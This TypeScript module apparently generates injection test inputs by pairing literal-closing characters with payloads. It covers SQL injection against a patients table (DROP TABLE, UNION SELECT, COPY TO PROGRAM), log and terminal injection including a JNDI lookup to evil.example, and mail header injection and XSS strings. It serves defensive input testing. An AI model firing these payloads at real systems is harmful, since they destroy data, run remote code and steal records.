/** Pairs of every beginning with every end. */
const crossed = (beginnings: readonly string[], ends: readonly string[]): readonly string[] =>
  beginnings.flatMap((beginning) => ends.map((end) => `${beginning}${end}`));

/** 208: what closes a literal, and what is then said. */
export const SQL = crossed(
  ["'", '"', "')", '\\', "\\'", '`', '$$', '1', "O'Brien'", '%27', '?', ':a', '\u02bc'],
  [
    ' OR 1=1 --',
    '; DROP TABLE patients; --',
    ' UNION SELECT * FROM patients --',
    "; UPDATE patients SET city = 'x'",
    ' AND pg_sleep(9) --',
    '/**/OR/**/1/**/=/**/1',
    '||(SELECT current_user)||',
    "; COPY patients TO PROGRAM 'id'",
    ' LIMIT 1 OFFSET 1',
    ' HAVING 1=1',
    "'::int",
    ' ORDER BY 99',
    '{{1}}',
    "'||chr(39)",
    ' ; SELECT 1',
    ' IS NOT NULL',
  ],
);

/** 54: what ends a line, steers a terminal, or looks like a line of ours. */
export const LOG = crossed(
  ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\u001b[2K', '\u009b31m', '\0'],
  [
    '{"level":"info","event":"enrollment.accepted"}',
    'admin signed in',
    '\u001b]0;owned\u0007',
    '{jndi:ldap://evil.example/a}',
    '%n%s%x',
    '","event":"process.stopped',
  ],
);

/** 48: further headers, further recipients, and markup. */
export const MAIL = [
  ...crossed(
    ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\\r\\n'],
    [
      'Bcc: evil@evil.example',
      'To: evil@evil.example',
      '\r\nA body',
      'Subject: x',
      '.\r\nRCPT TO:<a@b>',
    ],
  ),
  ...crossed(
    ['<', '"><', "'><", '&lt;', '</p><', '<!--><'],
    [
      'script>alert(1)</script>',
      'img src=x onerror=alert(1)>',
      'a href="javascript:alert(1)">x</a>',
    ],
  ),
];
